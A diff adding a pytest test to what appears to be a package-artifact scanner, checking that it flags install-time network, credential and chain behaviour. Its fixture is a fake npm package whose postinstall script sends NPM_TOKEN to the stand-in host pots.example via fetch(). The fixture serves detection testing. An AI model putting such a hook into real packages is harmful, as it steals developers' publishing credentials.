@@ -35,3 +35,17 @@ def test_what_was_kept_before_is_replaced_and_what_is_of_others_stays(packages):
         ("a", 1), ("b", 1),
     ]  # fmt: skip
     assert packages.execute("SELECT count(*) FROM artifact_facts").fetchone() == (0,)
+
+
+SENDS = b"fetch('//pots.example', {body: process.env.NPM_TOKEN})\n"
+
+
+@pytest.mark.parametrize(
+    ("extra", "moment"), [((), "install"), ((("pots/setup.py", b""),), "import")], ids=["npm", "sdist"]
+)
+def test_what_an_install_script_runs_acts_at_install_and_so_does_the_chain(packages, extra, moment):
+    manifest = b'{"scripts": {"postinstall": "node fire.js"}}'
+    packed = tar(("pots/package.json", manifest), ("pots/fire.js", SENDS), *extra)
+    keep(packages, "a", read_bytes("pots.tar", packed))
+    found = packages.execute("SELECT kind, moment FROM artifact_facts WHERE path = 'fire.js'").fetchall()
+    assert {("network", moment), ("credential", moment), ("chain", moment)} == set(found)
